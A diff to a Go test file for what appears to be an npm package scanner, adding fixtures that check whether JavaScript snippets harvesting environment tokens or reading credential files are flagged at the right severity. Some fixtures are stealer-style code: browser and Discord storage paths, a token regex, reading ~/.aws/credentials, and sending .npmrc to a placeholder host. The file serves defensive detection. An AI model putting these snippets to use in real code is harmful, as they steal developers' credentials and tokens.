@@ -15,6 +15,9 @@ func TestEnvHarvest(t *testing.T) {
 		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
 		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) {}`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
+		{"tokens_by_list", map[string]string{"index.js": `const out = {}; for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
+		// a list of names that are not read through process.env[k]
+		{"token_names_as_labels", map[string]string{"index.js": `const labels = ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]; const x = process.env.HOME`}, finding.SeverityNone},
 		{"spawn_env_spread", map[string]string{"index.js": `require("child_process").spawn("node", [], {env: {...process.env, X: "1"}})`}, finding.SeverityNone},
 		{"node_env", map[string]string{"index.js": `if (process.env.NODE_ENV === "production") {}`}, finding.SeverityNone},
 	})
@@ -26,6 +29,13 @@ func TestFileAccess(t *testing.T) {
 		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
 		{"discord_token_regex", map[string]string{"index.js": `const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g; fs.readdirSync(dir).forEach(f => fs.readFileSync(f).toString().match(re))`}, finding.SeverityHigh},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
+		// the path in pieces, as stealers write it
+		{"joined_aws_credentials", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),os=require("os"); fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8")`}, finding.SeverityHigh},
+		// an SDK's own lookup honours the tool's override variable
+		{"sdk_credentials_lookup", map[string]string{"index.js": `const fs=require("fs"),path=require("path"),os=require("os");
+const file = process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), ".aws", "credentials"); fs.readFileSync(file, "utf8")`}, finding.SeverityLow},
+		// a browser launcher looks for Chrome's profile roots
+		{"browser_launcher", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const roots = [path.join(local, "Google", "Chrome", "User Data"), path.join(local, "Google", "Chrome Beta", "User Data")]; roots.filter(r => fs.existsSync(r))`}, finding.SeverityMedium},
 		{"npmrc_mention", map[string]string{"index.js": `const name = ".npmrc"`}, finding.SeverityLow},
 		{"unrelated_paths", map[string]string{"index.js": `require("fs").readFileSync("./config/settings.json")`}, finding.SeverityNone},
 		// cloud SDKs ask the instance metadata service for their own credentials
